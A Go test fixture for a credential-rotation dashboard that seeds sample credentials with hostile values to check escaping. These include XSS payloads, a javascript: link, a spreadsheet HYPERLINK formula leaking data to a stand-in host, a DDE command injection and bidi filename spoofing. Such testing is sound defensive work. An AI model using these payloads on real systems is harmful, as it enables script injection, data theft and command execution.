package dashboard_test

import (
	"cmp"
	"context"
	"fmt"
	"hash/fnv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rotor-dev/rotor/internal/audit"
	"github.com/rotor-dev/rotor/internal/dashboard"
	"github.com/rotor-dev/rotor/internal/register"
	"github.com/rotor-dev/rotor/internal/report"
	"github.com/rotor-dev/rotor/internal/rotation"
	"github.com/rotor-dev/rotor/internal/validate"
)

var date = rotation.MustParseDate

// today is the pinned day of the fixture: a Monday, ISO week 50.
var today = date("2026-12-07")

// made is the fixture's clock.
var made = time.Date(2026, 12, 7, 6, 30, 0, 0, time.UTC)

const commit = "0123456789abcdef0123456789abcdef01234567"

// Hostile values of the fixture: none may become markup, a link or a
// formula anywhere.
const (
	hostileName   = `<script>alert("name")</script>`
	hostileOwner  = `"><img src=x onerror=alert(1)>@example.com`
	hostileTeam   = `<b onmouseover="alert(2)">Red \team</b>`
	hostileSystem = `=HYPERLINK("https://evil.example/?leak="&A1,"open")`
	hostileRun    = `javascript:alert(document.cookie)`
	bidi          = "invoice\u202etxt.exe\u2066"
)

var longDescription = strings.Repeat("A long description that never ends; ", 280)[:10000]

func cred(id, name, team, last string, period int, opts ...func(*rotation.Credential)) *rotation.Credential {
	c := &rotation.Credential{
		ID: id, Name: name, Owner: id + "@example.com", Team: team, PeriodDays: period,
		LastChanged: date(last), NoticeDays: 14, System: "sys-" + id, Description: "Description of " + id + ".",
		Pos: rotation.Position{File: "credential_rotation/" + cmp.Or(strings.ToLower(strings.Fields(team + " none")[0]), "none") + ".yaml", Line: 3, Column: 5},
	}
	for _, o := range opts {
		o(c)
	}
	return c
}

// fixtureRegister holds every status (ok, due, overdue, exempt, an
// exemption ending today), three teams and credentials without one, a
// team whose name is not a file name, and hostile values in every field.
func fixtureRegister() *rotation.Register {
	s := rotation.DefaultSettings()
	s.Timezone = time.FixedZone("CET", 3600)
	return &rotation.Register{Settings: s, Credentials: []*rotation.Credential{
		cred("payments-db-admin", "Payments DB admin password", "payments", "2026-09-01", 90, func(c *rotation.Credential) {
			c.Criticality = rotation.CriticalityCritical
			c.Runbook = "https://wiki.example.com/runbooks/payments-db-admin?x=1&y=2"
			c.LastTicket = "SEC-12"
			c.Environment = "production"
		}), // due 2026-11-30: 7 days late
		cred("stripe-api-key", "Stripe restricted API key", "payments", "2026-11-20", 180), // ok
		cred("adyen-webhook-hmac", "Adyen webhook HMAC key", "payments", "2026-09-15", 90, func(c *rotation.Credential) {
			c.LastTicket = "SEC-40"
		}), // due 2026-12-14: 7 days left, due
		cred("hsm-operator-card", "HSM operator card PIN", "payments", "2025-11-20", 365, func(c *rotation.Credential) {
			c.Exemption = &rotation.Exemption{Until: date("2026-12-07"), Reason: "Vendor swap;\nwaits for the new HSM", ApprovedBy: "ciso@example.com"}
		}), // exempt, last day
		cred("gcp-terraform-sa-key", "GCP Terraform service-account key", "Platform & Infra", "2026-10-10", 90, func(c *rotation.Credential) {
			c.Runbook = hostileRun
			c.Description = longDescription + bidi
		}), // ok
		cred("legacy-ldap-bind", hostileName, "Platform & Infra", "2026-06-01", 90, func(c *rotation.Credential) {
			c.Owner = hostileOwner
			c.System = hostileSystem
			c.LastTicket = "-2+3"
			c.Description = "@SUM(1+1)\n\t=cmd|' /C calc'!A0\n" + bidi
		}), // overdue 99 days
		cred("red-team-vpn", "Red team VPN "+bidi, hostileTeam, "2026-12-01", 30, func(c *rotation.Credential) {
			c.Exemption = &rotation.Exemption{Until: date("2027-01-31"), Reason: `<i>pending</i> "audit"`, ApprovedBy: hostileOwner}
		}), // exempt
		cred("orphan-token", "Orphan token", "", "2026-10-01", 60), // due 2026-11-30: overdue 7
		cred("looker-embed-secret", "Looker embed secret", "", "2026-03-01", 365, func(c *rotation.Credential) {
			c.Runbook = "http://intranet.example/looker"
		}), // ok
	}}
}

// history makes a plausible history of reg up to today: one rotation of
// every credential, at its last_changed, from a previous version one
// period (and a few days of lateness) earlier. It returns the weekly
// snapshots of the last weeks weeks, as report.Compute reads them, and
// the audit pack of the year before today.
func history(reg *rotation.Register, today rotation.Date, weeks int) ([]report.Snapshot, *audit.Pack) {
	prev := make([]*rotation.Credential, len(reg.Credentials))
	for i, c := range reg.Credentials {
		p := *c
		h := fnv.New32a()
		h.Write([]byte(c.ID))
		late := int(h.Sum32() % 12)
		p.LastChanged = c.LastChanged.AddDays(-c.PeriodDays - late)
		p.LastTicket = ""
		if c.LastTicket != "" {
			p.LastTicket = "SEC-1"
		}
		prev[i] = &p
	}
	var snaps []report.Snapshot
	for k := 1; k <= weeks; k++ {
		d := today.AddDays(-7 * k)
		r := &rotation.Register{Settings: reg.Settings, Credentials: make([]*rotation.Credential, len(reg.Credentials))}
		for i, c := range reg.Credentials {
			r.Credentials[i] = c
			if c.LastChanged.After(d) {
				r.Credentials[i] = prev[i]
			}
		}
		snaps = append(snaps, report.Snapshot{Date: d, Register: r})
	}

	from := today.AddDays(-364)
	in := audit.Input{From: from, To: today, Location: reg.Settings.Timezone, NoticeDays: reg.Settings.NoticeDays,
		BaselineCommit: strings.Repeat("b", 40)}
	type rot struct {
		i int
		d rotation.Date
	}
	var rots []rot
	for i, c := range reg.Credentials {
		if c.LastChanged.Before(from) || c.LastChanged.After(today) {
			in.Baseline = append(in.Baseline, c)
			continue
		}
		in.Baseline = append(in.Baseline, prev[i])
		rots = append(rots, rot{i, c.LastChanged})
	}
	slices.SortStableFunc(rots, func(a, b rot) int { return a.d.Compare(b.d) })
	for n, r := range rots {
		c := reg.Credentials[r.i]
		when := r.d.Start(reg.Settings.Timezone).Add(10 * time.Hour)
		sig := rotation.Signature{Name: "Rotor", Email: "rotor@example.com", When: when}
		in.Commits = append(in.Commits, audit.Commit{
			Hash: fmt.Sprintf("%040x", n+1), Author: sig, Committer: sig, MergedBy: "Rotor",
			Subject:  "Record rotation of " + c.ID,
			Recorded: []audit.Trailer{{Credential: c.ID, Ticket: c.LastTicket}},
			Files:    []audit.FileChange{{Path: c.Pos.File, Old: []*rotation.Credential{prev[r.i]}, New: []*rotation.Credential{c}}},
		})
	}
	return snaps, audit.Compute(in)
}

// input builds the whole Input of reg as `rotor dashboard` would.
func input(reg *rotation.Register, today rotation.Date, weeks int, public bool) dashboard.Input {
	snaps, pack := history(reg, today, weeks)
	rep := report.Compute(report.Input{Today: today, Register: reg, Previous: &snaps[0], Trend: snaps, Weeks: weeks, Rotated: []report.Rotation{}})
	return dashboard.Input{
		Register: reg, Today: today, Report: rep, Trend: snaps, Audit: pack,
		Warnings: []dashboard.Warning{
			{File: "credential_rotation/payments.yaml", Line: 40, Column: 7, Rule: "expired-exemption",
				Message: "exemption of old-thing expired on 2026-11-01 <b>remove it</b>"},
		},
		Made: made, Commit: commit, Public: public, Weeks: weeks,
	}
}

func fixtureInput(public bool) dashboard.Input { return input(fixtureRegister(), today, 8, public) }

func render(t testing.TB, in dashboard.Input) *dashboard.Site {
	t.Helper()
	s, err := dashboard.Render(in)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// exampleRegister loads the register of the repository's root, as the
// browser test shows it.
func exampleRegister(t testing.TB, today rotation.Date) (*rotation.Register, []dashboard.Warning) {
	t.Helper()
	v, err := validate.New()
	if err != nil {
		t.Fatal(err)
	}
	res, err := v.Validate(context.Background(), validate.Options{Root: "../../credential_rotation", Today: today})
	if err != nil {
		t.Fatal(err)
	}
	if n := res.Errors(); n > 0 {
		t.Fatalf("the example register has %d errors: %v", n, res.Findings)
	}
	var ws []dashboard.Warning
	for _, f := range res.Findings {
		if f.Severity != register.SeverityError {
			ws = append(ws, dashboard.Warning{File: f.File, Line: f.Line, Column: f.Column, Rule: f.Rule, Message: f.Message})
		}
	}
	return res.Register, ws
}
